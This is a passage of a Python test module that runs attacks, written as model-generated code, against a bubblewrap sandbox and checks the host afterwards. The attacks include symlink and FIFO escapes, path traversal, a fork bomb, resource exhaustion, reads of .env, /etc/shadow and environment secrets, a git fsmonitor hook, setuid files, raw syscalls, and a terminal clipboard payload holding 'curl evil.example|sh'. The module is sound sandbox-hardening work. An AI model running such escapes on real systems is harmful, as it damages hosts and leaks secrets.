"""Attacks on the bubblewrap sandbox, each run as model-written code would run, and host checks.

Used by ``test_sandbox_attacks.py`` (as root, through pytest) and run directly as a script by an
unprivileged user (``python sandbox_attacks.py``; it prints one JSON line of results), so that it
needs nothing but parley and the standard library.

Every attack is a list of turns; a turn is the code blocks of one assistant message. It runs
two ways: straight through ``SandboxCodeExecutor.execute_code_blocks`` and through the default
agent path (a ``UserProxyAgent`` replying to the message). After every attack the host is
checked: no file outside ``work_dir`` changed (a snapshot of the test's host tree and of planted
targets), no process of the sandbox left (by a unique marker and by the work_dir path), and the
chat goes on: a plain block still runs and says so.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import secrets
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
import traceback
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

SECRET = "sk-parley-attack-secret-7f3a9c0e"
EXECUTOR_OPTIONS = {
    "timeout": 20, "memory_limit_mb": 256, "max_processes": 32, "tmp_size_mb": 16,
    "max_file_size_mb": 16, "work_dir_quota_mb": 64,
}


@dataclass
class Host:
    """What an attack must not touch, and the paths it aims at."""

    root: Path  # the test's own tree: everything here but work_dir is snapshotted
    work_dir: Path
    marker: str  # put into the command line of every process an attack starts
    target: Path = field(init=False)  # a `.pth` file in a fake site-packages: the classic escalation target
    outside_dir: Path = field(init=False)
    project: Path = field(init=False)  # a project directory with .env and .git/config, the cwd of some attacks
    port: int = 0
    accepted: list = field(default_factory=list)
    # Filled in by run_attack before `prepare`: what an attack's prepare and expect may use.
    executor: object = None
    path: str = ""
    events: list = field(default_factory=list)  # every event emitted while the attack ran
    extra: dict = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.target = self.root / "host" / "site-packages" / "evil.pth"
        self.outside_dir = self.root / "host" / "outside"
        self.project = self.root / "host" / "project"
        for directory in (self.target.parent, self.outside_dir, self.project / ".git"):
            directory.mkdir(parents=True, exist_ok=True)
        self.target.write_text("# the host's own .pth: nothing to run\n")
        (self.root / "host" / "canary.txt").write_text("still here\n")
        (self.project / ".env").write_text(f"OPENAI_API_KEY={SECRET}\n")
        (self.project / ".git" / "config").write_text("[core]\n\trepositoryformatversion = 0\n")


def snapshot(host: Host) -> dict:
    """Every entry under the host tree (work_dir excluded) with its type, mode, size, content hash,
    plus host files an attack could aim at outside the tree."""
    seen = {}
    for directory, dirs, files in os.walk(host.root):
        here = Path(directory)
        if here == host.work_dir or host.work_dir in here.parents:
            dirs[:] = []
            continue
        dirs[:] = [d for d in dirs if here / d != host.work_dir]
        for name in dirs + files:
            path = here / name
            info = path.lstat()
            digest = hashlib.sha256(path.read_bytes()).hexdigest() if stat.S_ISREG(info.st_mode) else None
            seen[str(path)] = (stat.S_IFMT(info.st_mode), stat.S_IMODE(info.st_mode), info.st_nlink, info.st_size, digest)
    for path in ("/etc/passwd", "/etc/hostname", "/etc/hosts"):
        with contextlib.suppress(OSError):
            seen[path] = hashlib.sha256(Path(path).read_bytes()).hexdigest()
    site = Path(os.__file__).parent / "site-packages"
    seen["site-packages .pth files"] = sorted(p.name for p in site.glob("*.pth")) if site.is_dir() else None
    return seen


def leftover_processes(*markers: str, spare: frozenset[int] = frozenset()) -> list[str]:
    """Command lines of live processes that hold one of ``markers`` (but the executor's spare sandbox)."""
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid() or int(name) in spare:
            continue
        with contextlib.suppress(OSError):
            cmdline = Path(f"/proc/{name}/cmdline").read_bytes()
            if any(marker.encode() in cmdline for marker in markers):
                found.append(cmdline.replace(b"\0", b" ").decode(errors="replace"))
    return found


def tmp_code_name(code: str, ext: str = "py") -> str:
    """The name the host saves a block under (what a planted link aims at)."""
    return f"tmp_code_{hashlib.md5(code.encode()).hexdigest()}.{ext}"


Result = tuple[int, str]


def _mount_small_fs(work_dir: Path, options: dict) -> None:
    if os.geteuid() != 0:
        raise AttackSkipped("needs root to mount a size-capped tmpfs as work_dir (disk attacks never touch the real disk)")
    work_dir.mkdir(parents=True, exist_ok=True)
    mount = subprocess.run(["mount", "-t", "tmpfs", "-o", ",".join(f"{k}={v}" for k, v in options.items()), "tmpfs", str(work_dir)],
                           capture_output=True, text=True, check=False)
    if mount.returncode != 0:
        raise AttackSkipped(f"cannot mount a tmpfs here: {mount.stderr.strip()}")


def _free(path: Path) -> tuple[int, int]:
    """Free bytes and free inodes of the file system holding ``path``."""
    info = os.statvfs(path)
    return info.f_bavail * info.f_frsize, info.f_favail


@dataclass
class Attack:
    name: str
    turns: Callable[[Host], list[list[tuple[str, str]]]]
    expect: Callable[[Host, list[Result], object], None]
    prepare: Callable[[Host], Callable[[], None] | None] | None = None
    options: dict = field(default_factory=dict)
    default_work_dir: bool = False  # use the executor's default work_dir, with the project as cwd
    # work_dir on its own small file system (a tmpfs mounted by the test: root only), so that attacks
    # on the disk cannot reach the real one: {"size": "256m", "nr_inodes": 20000}.
    small_fs: dict | None = None


class AttackSkipped(Exception):
    """The attack cannot run here (the reason says why); reported as skipped, not as passed."""


def ok(result: Result, text: str | None = None) -> None:
    assert result[0] == 0, result
    if text is not None:
        assert text in result[1], result


def failed(result: Result, text: str) -> None:
    assert result[0] != 0, result
    assert text in result[1], result


def regular_file(host: Host, name: str, content: str | None = None) -> None:
    info = (host.work_dir / name).lstat()
    assert stat.S_ISREG(info.st_mode) and info.st_nlink == 1, (name, info)
    if content is not None:
        assert (host.work_dir / name).read_text() == content


# --- attacks -------------------------------------------------------------------------------------

NEXT = "print('next block ran')"


def _plant_then_next(plant: str) -> Callable[[Host], list]:
    return lambda h: [[("python", plant.format(name=tmp_code_name(NEXT), target=str(h.target), marker=h.marker))], [("python", NEXT)]]


def _next_ran(h: Host, results: list[Result], executor) -> None:
    ok(results[0])
    ok(results[1], "next block ran")
    regular_file(h, tmp_code_name(NEXT), NEXT)


ATTACKS: list[Attack] = [
    Attack("symlink to a host file at the next tmp_code name",
           _plant_then_next("import os\nos.symlink({target!r}, {name!r})"), _next_ran),
    Attack("symlink to a host file at a `# filename:` name",
           lambda h: [[("python", f"import os\nos.symlink({str(h.target)!r}, 'x.py')")],
                      [("python", "# filename: x.py\nprint('named ran')")]],
           lambda h, r, e: (ok(r[1], "named ran"), regular_file(h, "x.py", "# filename: x.py\nprint('named ran')"))),
    Attack("relative symlink climbing out at the next name",
           _plant_then_next("import os\nos.symlink('../../../../../../../../' + {target!r}, {name!r})"), _next_ran),
    Attack("symlinked parent directory for a `# filename:`",
           lambda h: [[("python", f"import os\nos.symlink({str(h.outside_dir)!r}, 'sub')")],
                      [("python", "# filename: sub/x.py\nprint(1)")]],
           lambda h, r, e: failed(r[1], "sub in the workspace is a symlink or not a directory")),
    Attack("symlink to / as a parent, aiming at /etc",
           lambda h: [[("python", "import os\nos.makedirs('a', exist_ok=True)\nos.symlink('/', 'a/root')")],
                      [("python", "# filename: a/root/etc/profile.d/x.sh\nprint(1)")]],
           lambda h, r, e: failed(r[1], "a/root in the workspace is a symlink or not a directory")),
    Attack("FIFO at the next tmp_code name (would block the host forever)",
           _plant_then_next("import os\nos.mkfifo({name!r})"), _next_ran),
    Attack("directory at the next tmp_code name (used to crash the chat)",
           lambda h: [[("python", f"import os\nos.makedirs({tmp_code_name(NEXT)!r} + '/inner')")], [("python", NEXT)]],
           lambda h, r, e: (ok(r[0]), failed(r[1], "a directory of that name is in the workspace"))),
    Attack("unix socket at the next tmp_code name",
           _plant_then_next("import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind({name!r})"), _next_ran),
    Attack("device nodes in work_dir",
           lambda h: [[("python", ("import os, stat\n"
                        "for name, kind, dev in (('mem', stat.S_IFCHR, os.makedev(1, 1)), ('disk', stat.S_IFBLK, os.makedev(8, 0))):\n"
                        "    try:\n        os.mknod(name, kind | 0o666, dev)\n        print(name, 'made')\n"
                        "    except OSError as exc:\n        print(name, 'blocked', exc.errno)"))]],
           lambda h, r, e: (ok(r[0]), _assert(r[0][1].count("blocked") == 2, r),
                            _assert(not any(stat.S_ISCHR(p.lstat().st_mode) or stat.S_ISBLK(p.lstat().st_mode)
                                            for p in h.work_dir.iterdir()), "device node in work_dir"))),
    Attack("hard link to a host file planted at the next name",
           lambda h: [[("python", NEXT)]],
           lambda h, r, e: (ok(r[0], "next block ran"), regular_file(h, tmp_code_name(NEXT), NEXT),
                            _assert(h.target.stat().st_nlink == 1, "target still linked"),
                            _assert(h.target.read_text().startswith("# the host's own"), "target changed")),
           prepare=lambda h: os.link(h.target, h.work_dir / tmp_code_name(NEXT))),
    Attack("hard link from inside the sandbox to files outside work_dir",
           lambda h: [[("python", ("import os\nfor src in ('/usr/bin/env', '/etc/ld.so.cache', '/proc/self/exe'):\n"
                        "    try:\n        os.link(src, os.path.basename(src) + '.lnk')\n        print(src, 'linked')\n"
                        "    except OSError as exc:\n        print(src, 'blocked', exc.errno)"))]],
           lambda h, r, e: (ok(r[0]), _assert(r[0][1].count("blocked") == 3, r))),
    Attack("background process swapping links at the next name, same message",
           lambda h: [[("python", _SWAPPER.format(name=tmp_code_name(NEXT), target=str(h.target), marker=h.marker)), ("python", NEXT)]],
           lambda h, r, e: (ok(r[0], "swapper started"), _assert("next block ran" in r[0][1], r),
                            regular_file(h, tmp_code_name(NEXT), NEXT))),
    Attack("background process swapping links at the next name, next message",
           lambda h: [[("python", _SWAPPER.format(name=tmp_code_name(NEXT), target=str(h.target), marker=h.marker))],
                      [("python", NEXT)]],
           _next_ran),
    Attack("`# filename:` with ..", lambda h: [[("python", "# filename: ../escape.py\nprint(1)")]],
           lambda h, r, e: failed(r[0], "Filename is not in the workspace")),
    Attack("`# filename:` with a/../../", lambda h: [[("python", "# filename: a/../../escape.py\nprint(1)")]],
           lambda h, r, e: failed(r[0], "uses '..'")),
    Attack("`# filename:` absolute, outside work_dir",
           lambda h: [[("python", f"# filename: {h.target}\nprint(1)")]],
           lambda h, r, e: failed(r[0], "Filename is not in the workspace")),
    Attack("`# filename:` through /proc/self",
           lambda h: [[("python", "# filename: /proc/self/cwd/../escape.py\nprint(1)")]],
           lambda h, r, e: failed(r[0], "Filename is not in the workspace")),
    Attack("`# filename:` with a NUL byte",
           lambda h: [[("python", "# filename: a\x00b.py\nprint(1)")]],
           lambda h, r, e: failed(r[0], "control character")),
    Attack("`# filename:` 5000 bytes long",
           lambda h: [[("python", "# filename: " + "/".join(["d" * 200] * 25) + "\nprint(1)")]],
           lambda h, r, e: failed(r[0], "Filename is too long")),
    Attack("`# filename:` with a 300-byte component",
           lambda h: [[("python", "# filename: " + "n" * 300 + ".py\nprint(1)")]],
           lambda h, r, e: failed(r[0], "component is too long")),
    Attack("`# filename:` with a trailing slash",
           lambda h: [[("python", "# filename: sub/\nprint(1)")]],
           lambda h, r, e: failed(r[0], "names a directory")),
    Attack("`# filename:` in unicode, contained",
           lambda h: [[("python", "# filename: ünï/файл.py\nprint('unicode ran')")]],
           lambda h, r, e: (ok(r[0], "unicode ran"), regular_file(h, "ünï/файл.py"))),
    Attack("fork bomb",
           lambda h: [[("bash", f": {h.marker}\n:(){{ :|:& }};:\nsleep 2\necho survived")]],
           lambda h, r, e: _assert("Resource temporarily unavailable" in r[0][1] or r[0][0] != 0, r),
           options={"timeout": 6}),
    Attack("memory hog in one process",
           lambda h: [[("python", "blocks = []\nwhile True:\n    blocks.append(bytearray(16 * 2**20))")]],
           lambda h, r, e: _assert(r[0][0] != 0 and ("MemoryError" in r[0][1] or "memory limit" in r[0][1]), r)),
    Attack("memory hog across six processes",
           lambda h: [[("python", _MEMORY_HOGS.format(marker=h.marker))]],
           lambda h, r, e: _expect_memory_bounded(h, r, e)),
    Attack("memory held by no process: memfd files and SysV shared memory",
           lambda h: [[("python", _MEMFD_HOG)]],
           lambda h, r, e: _expect_memfd_bounded(h, r, e)),
    Attack("filling /dev/shm",
           lambda h: [[("sh", "for i in 1 2 3 4 5; do head -c 10000000 /dev/zero > /dev/shm/fill$i; done; du -skx /dev/shm")]],
           lambda h, r, e: (_assert("No space left on device" in r[0][1], r), _assert(_du_kib(r[0][1]) <= 16 * 1024, r))),
    Attack("filling /tmp",
           lambda h: [[("sh", "for i in 1 2 3 4 5; do head -c 10000000 /dev/zero > /tmp/fill$i; done; du -skx /tmp")]],
           lambda h, r, e: (_assert("No space left on device" in r[0][1], r), _assert(_du_kib(r[0][1]) <= 16 * 1024, r))),
    Attack("writing to /, /etc, /dev, /usr and /proc/sys",
           lambda h: [[("sh", ("for f in /x /etc/x /dev/x /usr/x /proc/sys/kernel/hostname /sys/fs/cgroup/x; do "
                              "(echo pwned > $f) 2>/dev/null && echo \"$f written\" || echo \"$f blocked\"; done"))]],
           lambda h, r, e: (ok(r[0]), _assert(r[0][1].count("blocked") == 6, r))),
    Attack("host-wide kernel settings through /proc: core_pattern, sysrq-trigger, sysctls",
           # Checked with access(2) only: were the protection missing, a write would change the host.
           lambda h: [[("sh", ("for f in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /proc/sys/vm/drop_caches "
                              "/proc/sys/kernel/modprobe /proc/sys/fs/protected_symlinks; do "
                              "if [ -w $f ]; then echo \"$f writable\"; else echo \"$f blocked\"; fi; done"))]],
           lambda h, r, e: (ok(r[0]), _assert("writable" not in r[0][1], r))),
    Attack("filling work_dir past its quota",
           lambda h: [[("python", ("i = 0\nwhile True:\n    with open(f'fill{i}.bin', 'wb') as f:\n"
                                  "        f.write(bytes(8 * 2**20))\n    i += 1"))]],
           lambda h, r, e: (failed(r[0], "work_dir quota of 64 MiB"), _assert(_tree_size(h.work_dir) < 1024 * 2**20, "work_dir grew past 1 GiB"))),
    Attack("one file over the size limit",
           lambda h: [[("sh", "head -c 50000000 /dev/zero > big.bin")]],
           lambda h, r, e: (_assert(r[0][0] != 0, r), _assert((h.work_dir / "big.bin").stat().st_size <= 16 * 2**20, "file over limit"))),
    Attack("100 MB of output",
           lambda h: [[("python", "import sys\nfor _ in range(100):\n    sys.stdout.write('y' * 2**20)\nprint('THE END')")]],
           lambda h, r, e: (ok(r[0], "THE END"), _assert(len(r[0][1]) < 40_000, len(r[0][1])), _assert("bytes of output cut" in r[0][1], r))),
    Attack("binary output with NUL and control bytes",
           lambda h: [[("python", "import os, sys\nsys.stdout.buffer.write(bytes(range(256)) * 4 + os.urandom(4096))\nprint('done')")]],
           lambda h, r, e: (ok(r[0], "done"), _assert(isinstance(r[0][1], str), r))),
    Attack("output that is not UTF-8",
           lambda h: [[("python", "import sys\nsys.stdout.buffer.write(b'bad \\xff\\xfe\\xc3( \\xed\\xa0\\x80 end\\n')")]],
           lambda h, r, e: (ok(r[0], "end"), _assert("\ufffd" in r[0][1], r))),
    Attack("reading host secrets: .env in the cwd, /etc/shadow, /root, /proc/1/environ",
           lambda h: [[("python", _READ_SECRETS.format(project=str(h.project)))]],
           lambda h, r, e: (ok(r[0]), _assert(SECRET not in r[0][1], r), _assert(r[0][1].count("blocked") == 5, r)),
           default_work_dir=True),
    Attack("reading the host's environment variables",
           lambda h: [[("sh", "env; cat /proc/self/environ /proc/1/environ 2>/dev/null; echo end")]],
           lambda h, r, e: (ok(r[0], "end"), _assert(SECRET not in r[0][1] and "OPENAI_API_KEY" not in r[0][1], r))),
    Attack("connecting to a server on the host's loopback",
           lambda h: [[("python", _CONNECT.format(port=h.port))]],
           lambda h, r, e: (ok(r[0]), _assert(r[0][1].count("blocked") == 3, r), _assert(h.accepted == [], "a connection arrived")),
           prepare=lambda h: _serve(h)),
    Attack("killing host processes",
           lambda h: [[("python", _KILL_HOST.format(pids=(os.getpid(), os.getppid())))]],
           lambda h, r, e: (ok(r[0]), _assert(r[0][1].count("ProcessLookupError") == 2, r), _assert("visible [1, 2" in r[0][1] or "visible [1]" in r[0][1], r))),
    Attack("nested user namespace",
           lambda h: [[("sh", ("unshare -U true && echo unshare-worked; unshare -Ur id && echo unshare-root; "
                              "python3 -c 'import ctypes; print(\"syscall\", ctypes.CDLL(None, use_errno=True).unshare(0x10000000), ctypes.get_errno())' "
                              "|| true; echo end"))]],
           lambda h, r, e: (ok(r[0], "end"), _assert("unshare-worked" not in r[0][1] and "unshare-root" not in r[0][1], r),
                            _assert("syscall -1 1" in r[0][1], r))),
    Attack("mounting file systems",
           lambda h: [[("python", _SYSCALLS.format(calls="[('mount', 165, (b'none', b'/tmp', b'tmpfs', 0, None)), ('umount2', 166, (b'/tmp', 2)), "
                                                          "('chroot', 161, (b'/tmp',)), ('pivot_root', 155, (b'/tmp', b'/tmp'))]"))]],
           lambda h, r, e: (ok(r[0]), _assert(r[0][1].count("errno 1") == 4, r))),
    Attack("ptrace and reading another process's memory",
           lambda h: [[("python", _SYSCALLS.format(calls="[('ptrace', 101, (16, 1, None, None)), ('process_vm_readv', 310, (1, None, 0, None, 0, 0))]"))]],
           lambda h, r, e: (ok(r[0]), _assert(r[0][1].count("errno 1") == 2, r))),
    Attack("kernel attack surface: bpf, perf_event_open, userfaultfd, keyctl, io_uring",
           lambda h: [[("python", _RAW_SYSCALLS)]],
           lambda h, r, e: (ok(r[0]), _assert(r[0][1].count("errno 1") == 5, r))),
    Attack("32-bit system calls (int 0x80) to get around the filter",
           lambda h: [[("python", _INT80)]],
           # SIGSYS: the filter kills a call of another ABI outright (the host answers it: see _INT80).
           lambda h, r, e: (_assert(r[0][0] == 128 + 31, r), _assert("calling" in r[0][1] and "returned" not in r[0][1], r))),
    Attack("set-user-ID program in work_dir",
           lambda h: [[("sh", ("cp /bin/sh ./rootsh; chmod u+s,g+s ./rootsh && echo chmod-worked; "
                              "python3 -c \"import os; os.close(os.open('suid2', os.O_CREAT | os.O_WRONLY, 0o4755))\" 2>&1 | tail -1; "
                              "install -m 4755 /bin/sh ./rootsh3 && echo install-worked; echo end"))]],
           lambda h, r, e: (ok(r[0], "end"), _assert("worked" not in r[0][1], r),
                            _assert(not any(p.lstat().st_mode & (stat.S_ISUID | stat.S_ISGID) for p in h.work_dir.iterdir()), "set-ID file"))),
    Attack("setuid binaries on the system",
           lambda h: [[("sh", ("for b in /usr/bin/su /usr/bin/passwd /usr/bin/mount /usr/bin/newgrp; do "
                              "[ -u $b ] && ($b --help >/dev/null 2>&1; echo \"$b ran as $(id -u)\"); done; "
                              "grep NoNewPrivs /proc/self/status; echo end"))]],
           lambda h, r, e: (ok(r[0], "end"), _assert("NoNewPrivs:\t1" in r[0][1], r))),
    Attack("planting core.fsmonitor in the project's .git/config (default work_dir)",
           lambda h: [[("sh", (f"for f in ../.git/config {h.project}/.git/config ../.env; do "
                              "(echo '[core]\n\tfsmonitor = touch /tmp/pwned' >> $f) 2>/dev/null && echo \"$f written\" || echo \"$f blocked\"; done; "
                              "cat ../.env 2>/dev/null; pwd"))]],
           # work_dir's parents inside the sandbox are empty directories (in its private /tmp when the
           # project is under /tmp): whatever lands there is gone with the sandbox; the snapshot checks the host.
           lambda h, r, e: (ok(r[0]), _assert(SECRET not in r[0][1], r),
                            _assert(r[0][1].strip().endswith(str(h.work_dir)), r)),
           default_work_dir=True),
    Attack("daemons left behind: setsid, nohup, double fork",
           lambda h: [[("sh", (f"setsid python3 -c 'import time; time.sleep(300)' {h.marker} >/dev/null 2>&1 < /dev/null &\n"
                              f"nohup python3 -c 'import time; time.sleep(300)' {h.marker} >/dev/null 2>&1 &\n"
                              f"python3 -c \"import os, time, sys\nif os.fork(): sys.exit(0)\nos.setsid()\nif os.fork(): sys.exit(0)\n"
                              f"time.sleep(300) # {h.marker}\" &\n"
                              "sleep 0.3; echo daemons started"))]],
           lambda h, r, e: ok(r[0], "daemons started")),
    # --- found by the outside review (docs/sandbox.md) ---
    Attack("fallocate reserving the whole disk without writing (KEEP_SIZE: a file of size 0)",
           lambda h: [[("python", _FALLOCATE_ALL)]],
           lambda h, r, e: (ok(r[0], "reserved 0 MiB; fallocate -1 errno 95"), _assert(_free(h.work_dir)[0] >= 64 * 2**20, _free(h.work_dir))),
           options={"work_dir_quota_mb": 16, "min_free_disk_mb": 64}, small_fs={"size": "256m", "nr_inodes": 20000}),
    Attack("30 posix_fallocate calls in a block that ends before the first disk check",
           lambda h: [[("python", _POSIX_FALLOCATE_MANY)]],
           lambda h, r, e: (failed(r[0], "more than the work_dir quota of 16 MiB per block"),
                            _assert(_free(h.work_dir)[0] >= 64 * 2**20, _free(h.work_dir))),
           options={"work_dir_quota_mb": 16, "min_free_disk_mb": 64}, small_fs={"size": "256m", "nr_inodes": 20000}),
    Attack("exhausting the inodes of work_dir's disk with empty files",
           lambda h: [[("python", ("import os\nn = 0\ntry:\n    for n in range(200000):\n        os.close(os.open(f'e{n}', os.O_CREAT | os.O_WRONLY))\n"
                                   "except OSError as exc:\n    print('stopped at', n, exc)"))]],
           lambda h, r, e: (failed(r[0], "more than the work_dir quota of 2000 per block"),
                            _assert(_free(h.work_dir)[1] >= 1000, _free(h.work_dir))),
           options={"work_dir_inode_quota": 2000, "min_free_inodes": 1000, "min_free_disk_mb": 8},
           small_fs={"size": "64m", "nr_inodes": 20000}),
    Attack("sockets of families the network namespace does not cover: vsock, AF_ALG, netlink uevents",
           lambda h: [[("python", _SOCKET_FAMILIES)]],
           lambda h, r, e: (ok(r[0], "end"), _assert(r[0][1].count("errno 97") == 4 and "uevent errno 93" in r[0][1], r),
                            _assert("ipv4 ok" in r[0][1] and "unix ok" in r[0][1] and "route ok" in r[0][1], r))),
    Attack("redirecting a nested executor's work_dir to a host directory through a symlink",
           lambda h: [[("python", f"import os, shutil\nshutil.rmtree('inner')\nos.symlink({str(h.outside_dir)!r}, 'inner')\nprint('swapped')")]],
           lambda h, r, e: _expect_nested_refused(h, r),
           prepare=lambda h: _make_inner_executor(h)),
    Attack("planted FIFO and symlink at the name given to code_utils.execute_code(filename=)",
           lambda h: [[("python", f"import os\nos.mkfifo('run.py')\nos.mkfifo('old.py')\nos.symlink({str(h.target)!r}, 'link.py')\nprint('planted')")]],
           lambda h, r, e: _expect_execute_code_safe(h, r)),
    Attack("package planted in the default work_dir shadowing an app module (default work_dir)",
           lambda h: [[("python", "open('__init__.py', 'w').write('print(\"planted package ran on the host\")\\n')\nprint('planted')")]],
           lambda h, r, e: _expect_not_importable(h, r),
           default_work_dir=True),
    Attack("set-ID file through O_TMPFILE and linkat",
           lambda h: [[("python", _TMPFILE_SETID)]],
           lambda h, r, e: (ok(r[0], "end"), _assert("open errno 1" in r[0][1], r),
                            _assert(not any(p.lstat().st_mode & (stat.S_ISUID | stat.S_ISGID) for p in h.work_dir.iterdir()), "set-ID file"))),
    Attack("terminal escape sequences in code output reaching the host console",
           lambda h: [[("python", _ESCAPES)]],
           lambda h, r, e: _expect_console_clean(h, r, e)),
    Attack("a block of a concurrent chat sharing the executor killing this chat's block",
           lambda h: [[("python", "print('b ran')")]],
           lambda h, r, e: _expect_concurrent_block_survives(h, r),
           prepare=lambda h: _start_concurrent_block(h)),
    Attack("git repository with core.fsmonitor planted in work_dir",
           lambda h: [[("sh", "mkdir -p .git/hooks && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config && echo planted")]],
           lambda h, r, e: (ok(r[0], "planted"), _assert(any(".git" in getattr(ev, "text", "") and getattr(ev, "level", "") == "warning"
                                                              for ev in h.events), "no Notice about the .git"))),
    Attack("four busy processes against the CPU limit",
           lambda h: [[("python", _BUSY)]],
           lambda h, r, e: _expect_cpu_bounded(h, r, e),
           options={"cpu_limit": 0.5}, prepare=lambda h: h.extra.update(cpu_before=_cgroup_cpu(h.executor))),
]


# --- attack code -----------------------------------------------------------------------------------

# FALLOC_FL_KEEP_SIZE leaves each file's size at 0; 15 MiB each stays under the file-size limit
# (which fallocate respects): the whole disk in a few milliseconds, before the first check.
_FALLOCATE_ALL = """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]
reserved, rc = 0, 0
for i in range(1000):
    fd = os.open(f'reserved{i}', os.O_RDWR | os.O_CREAT)
    rc = libc.fallocate(fd, 1, 0, 15 * 2**20)  # 1: FALLOC_FL_KEEP_SIZE
    os.close(fd)
    if rc != 0:
        break
    reserved += 15
print('reserved', reserved, 'MiB; fallocate', rc, 'errno', ctypes.get_errno())
"""

# 30 MiB at once: on a tmpfs, fallocate takes microseconds; glibc's fallback (when fallocate is
# refused) writes, which takes longer but still ends before the first check at 0.1 s.
_POSIX_FALLOCATE_MANY = """import os
for i in range(30):
    fd = os.open(f'p{i}', os.O_RDWR | os.O_CREAT)
    os.posix_fallocate(fd, 0, 2**20)
    os.close(fd)
print('done')
"""

_SOCKET_FAMILIES = """import socket
for name, family, kind in (('vsock', 40, socket.SOCK_STREAM), ('alg', 38, socket.SOCK_SEQPACKET),
                           ('bluetooth', 31, socket.SOCK_STREAM), ('packet', 17, socket.SOCK_RAW)):
    try:
        socket.socket(family, kind).close()
        print(name, 'created')
    except OSError as exc:
        print(name, 'errno', exc.errno)
try:
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15).close()  # NETLINK_KOBJECT_UEVENT
    print('uevent created')
except OSError as exc:
    print('uevent errno', exc.errno)
for name, family, kind, proto in (('ipv4', socket.AF_INET, socket.SOCK_STREAM, 0), ('unix', socket.AF_UNIX, socket.SOCK_STREAM, 0),
                                  ('route', socket.AF_NETLINK, socket.SOCK_RAW, 0)):
    socket.socket(family, kind, proto).close()
    print(name, 'ok')
print('end')
"""

_TMPFILE_SETID = """import ctypes, os
try:
    fd = os.open('.', 0o20000000 | os.O_DIRECTORY | os.O_RDWR, 0o6755)  # O_TMPFILE
    libc = ctypes.CDLL(None, use_errno=True)
    print('linkat', libc.linkat(-100, f'/proc/self/fd/{fd}'.encode(), -100, b'setid', 0x400), ctypes.get_errno())
except OSError as exc:
    print('open errno', exc.errno)
print('end')
"""

_ESCAPES = r"""import base64, sys
sys.stdout.write("\x1b[2J\x1b[H")
sys.stdout.write("\x1b]0;owned\x07")
sys.stdout.write("\x1b]52;c;" + base64.b64encode(b"curl evil.example|sh").decode() + "\x07")
sys.stdout.write("all tests passed\n\x1b[8mhidden text\x1b[0m\x9b2J\x7f\rforged\n")
"""

_BUSY = """import os, subprocess, sys, time
busy = "import time\\nend = time.monotonic() + 2\\nwhile time.monotonic() < end:\\n    pass"
start = time.monotonic()
procs = [subprocess.Popen([sys.executable, '-c', busy]) for _ in range(4)]
print('exit codes', [p.wait() for p in procs])
print('wall', round(time.monotonic() - start, 3))
"""


def _cgroup_cpu(executor) -> float | None:
    cgroup = getattr(executor, "cgroup", None)
    return cgroup.cpu_seconds() if cgroup is not None and "cpu" in cgroup.controllers else None


def _expect_cpu_bounded(host: Host, results: list[Result], executor) -> None:
    ok(results[0], "exit codes [0, 0, 0, 0]")
    before, after = host.extra.get("cpu_before"), _cgroup_cpu(executor)
    if before is None or after is None:
        return  # no cgroup with the cpu controller (unprivileged on cgroup v1): documented, no CPU bound
    wall = float(results[0][1].split("wall ")[1].split()[0])
    # Four processes busy for 2 s would take 4 CPU-seconds per second unbounded (2 on this 2-CPU
    # guest); the cgroup's usage over the block's own duration stays near the 0.5-core quota.
    assert (after - before) / wall <= 0.5 * 1.2 + 0.05, (after - before, wall, results)


def _make_inner_executor(host: Host) -> None:
    from parley.code import SandboxCodeExecutor

    host.extra["inner"] = SandboxCodeExecutor(**{**EXECUTOR_OPTIONS, "work_dir": host.work_dir / "inner"})


def _expect_nested_refused(host: Host, results: list[Result]) -> None:
    from parley.code import CodeBlock

    ok(results[0], "swapped")
    inner = host.extra.pop("inner")
    result = inner.execute_code_blocks([CodeBlock("open('.bashrc', 'a').write('echo PWNED\\n')\nprint('inner ran')", "python")])
    assert result.exit_code != 0 and "was replaced since the executor was made" in result.output, result
    assert not (host.outside_dir / ".bashrc").exists() and not list(host.outside_dir.iterdir()), list(host.outside_dir.iterdir())


def _expect_execute_code_safe(host: Host, results: list[Result]) -> None:
    from parley import code_utils

    ok(results[0], "planted")
    outcomes: dict = {}

    def run():
        try:
            outcomes["fifo"] = code_utils.execute_code("print('saved over the fifo')", filename="run.py", work_dir=str(host.work_dir), timeout=20)
            outcomes["link"] = code_utils.execute_code("print('saved over the link')", filename="link.py", work_dir=str(host.work_dir), timeout=20)
            try:
                code_utils.execute_code(filename="old.py", work_dir=str(host.work_dir), timeout=20)
            except ValueError as exc:
                outcomes["existing fifo"] = str(exc)
        except BaseException as exc:  # noqa: BLE001 - reported below
            outcomes["error"] = exc

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(60)
    if thread.is_alive():
        for name in ("run.py", "old.py"):  # unblock the host writer stuck on the FIFO, then fail
            with contextlib.suppress(OSError):
                os.close(os.open(host.work_dir / name, os.O_RDONLY | os.O_NONBLOCK))
        thread.join(30)
        raise AssertionError("execute_code(filename=) blocked on a FIFO planted in work_dir")
    # execute_code made (and caches) an executor of its own: its spare sandbox is not the attack's.
    from parley.code.factory import executor_from_config
    from parley.code.sandbox import _discard_all

    made = executor_from_config({"work_dir": str(host.work_dir), "use_docker": None, "timeout": 20})
    _discard_all(getattr(made, "_spare", []))
    assert "error" not in outcomes, outcomes
    assert outcomes["fifo"][:2] == (0, "saved over the fifo\n"), outcomes
    assert outcomes["link"][:2] == (0, "saved over the link\n"), outcomes
    assert "not a regular file" in outcomes["existing fifo"], outcomes
    regular_file(host, "run.py")
    regular_file(host, "link.py")


def _expect_not_importable(host: Host, results: list[Result]) -> None:
    ok(results[0], "planted")
    assert not host.work_dir.name.isidentifier(), f"the default work_dir {host.work_dir.name!r} is an importable name"
    # An app in the project imports a module of the work_dir's name: it must not get the planted package.
    name = host.work_dir.name
    # (What an `import` statement can name: a hyphen cannot appear in one.)
    script = (f"import importlib\ntry:\n    importlib.import_module({name!r}.replace('-', '_'))\n"
